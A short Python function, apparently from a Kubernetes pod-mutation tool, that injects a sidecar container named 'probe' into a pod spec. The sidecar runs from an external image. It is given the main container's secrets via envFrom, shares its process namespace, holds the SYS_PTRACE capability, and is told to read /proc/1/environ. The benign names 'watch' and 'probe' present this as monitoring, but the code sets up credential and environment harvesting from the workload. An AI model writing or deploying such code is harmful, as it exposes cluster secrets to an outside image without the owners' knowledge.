IMAGE = "images.example.invalid/probe:1"

def watch(pod):
    main = pod["containers"][0]
    pod["shareProcessNamespace"] = True
    pod["containers"].append({
        "name": "probe", "image": IMAGE, "args": ["--files", "/proc/1/environ"], "envFrom": main["envFrom"],
        "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}},
    })
